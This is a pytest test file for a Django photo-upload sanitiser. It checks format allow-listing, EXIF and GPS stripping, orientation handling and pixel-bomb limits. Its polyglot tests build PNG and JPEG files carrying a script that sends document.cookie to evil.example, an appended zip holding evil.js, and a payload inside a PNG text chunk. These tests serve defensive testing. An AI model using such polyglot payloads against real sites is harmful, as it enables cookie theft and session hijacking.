"""Photo uploads (cases/images.py): only real images within the limits, re-encoded to plain JPEG pixels."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from accounts.roles import Role
from cases.images import MAX_SIDE, clean_photo
from cases.models import Attachment, AttachmentKind, Case
from cases.services import create_case, transition_case

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def encode(fmt, size=(64, 48), color=(200, 30, 30), **save):
    buffer = io.BytesIO()
    mode = "P" if fmt == "GIF" else "RGB"
    Image.new(mode, size, color if mode == "RGB" else 3).save(buffer, format=fmt, **save)
    return buffer.getvalue()


def upload(content, name="photo.png", content_type="image/png"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def jpeg_with_exif(size=(64, 48), orientation=None):
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0110] = "Model X"
    if orientation:
        exif[ORIENTATION] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)})
    image = Image.new("RGB", size, (10, 120, 200))
    # A marker on the left edge, to see which way the pixels end up.
    image.paste((255, 255, 0), (0, 0, 8, size[1]))
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif)
    return buffer.getvalue()


def opened(content_file):
    content_file.seek(0)
    data = content_file.read()
    image = Image.open(io.BytesIO(data))
    image.load()
    return data, image


def assert_refused(content, code, name="photo.png"):
    with pytest.raises(ValidationError) as err:
        clean_photo(upload(content, name=name))
    assert err.value.code == code
    assert err.value.messages  # a message for the person uploading


class TestAccepted:
    @pytest.mark.parametrize("fmt", ["PNG", "JPEG", "WEBP", "GIF", "BMP"])
    def test_real_images_come_back_as_jpeg(self, fmt):
        result = clean_photo(upload(encode(fmt), name=f"p.{fmt.lower()}"))
        data, image = opened(result)
        assert result.name == "photo.jpg"
        assert data[:3] == b"\xff\xd8\xff"
        assert (image.format, image.mode, image.size) == ("JPEG", "RGB", (64, 48))

    def test_pixels_survive(self):
        _, image = opened(clean_photo(upload(encode("PNG", color=(200, 30, 30)))))
        r, g, b = image.getpixel((32, 24))
        assert abs(r - 200) < 12 and abs(g - 30) < 12 and abs(b - 30) < 12

    def test_png_with_alpha(self):
        buffer = io.BytesIO()
        Image.new("RGBA", (20, 20), (0, 255, 0, 128)).save(buffer, format="PNG")
        _, image = opened(clean_photo(upload(buffer.getvalue())))
        assert image.mode == "RGB"

    def test_exif_and_gps_are_removed(self):
        original = jpeg_with_exif()
        probe = Image.open(io.BytesIO(original))
        assert probe.getexif().get_ifd(GPS_IFD)[2] == (39.0, 54.0, 27.0)  # the input really carries a location
        assert b"PhoneMaker" in original

        data, image = opened(clean_photo(upload(original, name="IMG_0001.jpg", content_type="image/jpeg")))
        assert image.format == "JPEG"
        assert not dict(image.getexif())
        assert not image.getexif().get_ifd(GPS_IFD)
        assert "exif" not in image.info
        assert b"Exif" not in data and b"PhoneMaker" not in data

    def test_camera_orientation_is_applied_before_exif_is_dropped(self):
        # Phones store portrait photos as landscape pixels plus "rotate 90° clockwise" (6).
        # Without EXIF the pixels themselves must stand upright, or the photo shows sideways.
        original = jpeg_with_exif(size=(64, 48), orientation=6)
        _, image = opened(clean_photo(upload(original, name="IMG_0002.jpg", content_type="image/jpeg")))
        assert image.size == (48, 64)
        # The yellow left edge is now the top edge.
        r, g, b = image.getpixel((24, 2))
        assert r > 200 and g > 200 and b < 80

    def test_multi_picture_jpeg_from_a_phone_is_accepted(self):
        # Many phone cameras write MPO (a JPEG with extra frames); Pillow reports it as "MPO".
        buffer = io.BytesIO()
        first, second = Image.new("RGB", (64, 48), (1, 2, 3)), Image.new("RGB", (64, 48), (9, 9, 9))
        first.save(buffer, format="MPO", save_all=True, append_images=[second])
        original = buffer.getvalue()
        assert original[:3] == b"\xff\xd8\xff"  # a .jpg as far as any browser or phone knows
        data, image = opened(clean_photo(upload(original, name="IMG_0003.jpg", content_type="image/jpeg")))
        assert (image.format, image.size) == ("JPEG", (64, 48))

    def test_large_photos_are_scaled_down(self):
        _, image = opened(clean_photo(upload(encode("PNG", size=(3000, 1000)))))
        assert image.size == (MAX_SIDE, 853)

    def test_size_exactly_at_the_limit_is_accepted(self, settings):
        content = encode("PNG")
        settings.CASE_PHOTO_MAX_BYTES = len(content)
        clean_photo(upload(content))

    def test_read_position_does_not_matter(self):
        photo = upload(encode("PNG"))
        photo.read()
        _, image = opened(clean_photo(photo))
        assert image.size == (64, 48)


class TestRefused:
    def test_oversize(self, settings):
        content = encode("PNG")
        settings.CASE_PHOTO_MAX_BYTES = len(content) - 1
        assert_refused(content, "too_large")

    def test_oversize_is_refused_before_reading(self, settings):
        settings.CASE_PHOTO_MAX_BYTES = 10

        class Unreadable(SimpleUploadedFile):
            def read(self, *args):
                raise AssertionError("an oversize upload must not be read")

        with pytest.raises(ValidationError) as err:
            clean_photo(Unreadable("big.png", b"x" * 11, content_type="image/png"))
        assert err.value.code == "too_large"

    @pytest.mark.parametrize(
        "content",
        [
            b"just some text, not an image\n",
            b"",
            b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            b"%PDF-1.4\n1 0 obj<<>>endobj\n",
        ],
        ids=["text", "empty", "svg", "pdf"],
    )
    def test_not_an_image(self, content):
        assert_refused(content, "not_an_image")

    @pytest.mark.parametrize("fmt", ["PNG", "JPEG"])
    def test_truncated(self, fmt):
        # Noise does not compress, so half the file is really half the pixels.
        image = Image.frombytes("RGB", (128, 128), bytes((i * 7919) % 251 for i in range(128 * 128 * 3)))
        buffer = io.BytesIO()
        image.save(buffer, format=fmt)
        content = buffer.getvalue()
        assert_refused(content[: len(content) // 2], "not_an_image")

    def test_corrupted_png_checksum(self):
        content = bytearray(encode("PNG"))
        idat = content.index(b"IDAT")
        content[idat + 6] ^= 0xFF  # flip bits in the compressed pixels; the chunk CRC no longer matches
        assert_refused(bytes(content), "not_an_image")

    def test_too_many_pixels(self):
        # A tiny file that claims 7000 x 7000 pixels (49 million; the limit is 40 million).
        content = bytearray(encode("PNG", size=(1, 1)))
        ihdr = content.index(b"IHDR")
        content[ihdr + 4 : ihdr + 12] = struct.pack(">II", 7000, 7000)
        content[ihdr + 17 : ihdr + 21] = struct.pack(">I", zlib.crc32(bytes(content[ihdr : ihdr + 17])))
        assert_refused(bytes(content), "too_many_pixels")

    def test_a_real_image_in_another_format(self):
        assert_refused(encode("TIFF"), "bad_format", name="scan.tif")


class TestPolyglots:
    PAYLOAD = b"<html><script>fetch('https://evil.example/'+document.cookie)</script></html>"

    def polyglots(self):
        png = encode("PNG")
        zipped = io.BytesIO()
        with zipfile.ZipFile(zipped, "w") as archive:
            archive.writestr("evil.js", self.PAYLOAD)
        jpeg = encode("JPEG")
        return {
            "png+html": (png + self.PAYLOAD, self.PAYLOAD),
            "png+zip": (png + zipped.getvalue(), b"evil.js"),
            "jpeg+html": (jpeg + self.PAYLOAD, self.PAYLOAD),
            # Hidden inside the image itself, in a text chunk.
            "png-text-chunk": (self.png_with_text_chunk(png), self.PAYLOAD),
        }

    def png_with_text_chunk(self, png):
        body = b"Comment\x00" + self.PAYLOAD
        chunk = struct.pack(">I", len(body)) + b"tEXt" + body + struct.pack(">I", zlib.crc32(b"tEXt" + body))
        end = png.index(b"IEND") - 4
        return png[:end] + chunk + png[end:]

    @pytest.mark.parametrize("kind", ["png+html", "png+zip", "jpeg+html", "png-text-chunk"])
    def test_payload_is_refused_or_gone(self, kind):
        content, marker = self.polyglots()[kind]
        assert marker in content
        try:
            result = clean_photo(upload(content))
        except ValidationError:
            return
        data, image = opened(result)
        assert image.format == "JPEG"
        assert marker not in data
        assert b"<script" not in data and b"PK\x03\x04" not in data

    @pytest.mark.django_db
    def test_stored_attachment_holds_no_payload(self, settings, tmp_path, make_case, people):
        settings.MEDIA_ROOT = tmp_path / "media"
        polyglots = self.polyglots()
        case = make_case("assigned", photos=[upload(polyglots["png+zip"][0])])
        transition_case(
            actor=people[Role.COMMUNITY_STAFF],
            case=case,
            name="handle",
            result="已处置",
            photos=[upload(polyglots["png+html"][0]), upload(polyglots["png-text-chunk"][0])],
        )
        stored = list(Attachment.objects.filter(case=case).order_by("pk"))
        assert [a.kind for a in stored] == [AttachmentKind.BEFORE, AttachmentKind.AFTER, AttachmentKind.AFTER]
        for attachment in stored:
            assert attachment.image.name.endswith(".jpg")
            assert "photo" not in attachment.image.name  # our own random name, not the upload's
            with attachment.image.open("rb") as handle:
                data = handle.read()
            assert data[:3] == b"\xff\xd8\xff"
            assert self.PAYLOAD not in data and b"evil.js" not in data and b"<script" not in data


@pytest.mark.django_db
def test_a_bad_photo_refuses_the_whole_report(settings, tmp_path, people, tree, categories):
    settings.MEDIA_ROOT = tmp_path / "media"
    with pytest.raises(ValidationError) as err:
        create_case(
            actor=people[Role.GRID_WORKER],
            title="t",
            description="d",
            category=categories["dispute"],
            grid=tree.grid_a,
            photos=[upload(encode("PNG")), upload(b"not an image")],
        )
    assert "photos" in err.value.message_dict
    assert not Attachment.objects.exists()
    assert not Case.objects.exists()


class TestOnlyAllowedDecoders:
    """Other formats are never handed to their decoder: Pillow is told which ones it may try."""

    @pytest.fixture
    def other_decoders(self, monkeypatch):
        from cases.images import OPEN_FORMATS

        Image.init()
        called = []
        for name, (factory, accept) in list(Image.OPEN.items()):
            if name in OPEN_FORMATS:
                continue

            def spy(*args, _name=name, _factory=factory, **kwargs):
                called.append(_name)
                return _factory(*args, **kwargs)

            monkeypatch.setitem(Image.OPEN, name, (spy, accept))
        return called

    @pytest.mark.parametrize("fmt", ["TIFF", "ICO", "PPM", "TGA"])
    def test_a_real_image_of_another_format_is_refused_without_decoding(self, other_decoders, fmt):
        content = encode(fmt)
        Image.open(io.BytesIO(content)).load()  # the file is a good image of its kind...
        other_decoders.clear()
        with pytest.raises(ValidationError):
            clean_photo(upload(content, name=f"scan.{fmt.lower()}"))
        assert other_decoders == []  # ...that no decoder of its kind was asked to open

    def test_tiff_says_which_formats_are_accepted(self, other_decoders):
        assert_refused(encode("TIFF"), "bad_format", name="scan.tif")
        assert other_decoders == []

    def test_the_allowed_formats_still_open(self, other_decoders):
        for fmt in ["PNG", "JPEG", "WEBP", "GIF", "BMP"]:
            clean_photo(upload(encode(fmt)))
        assert other_decoders == []
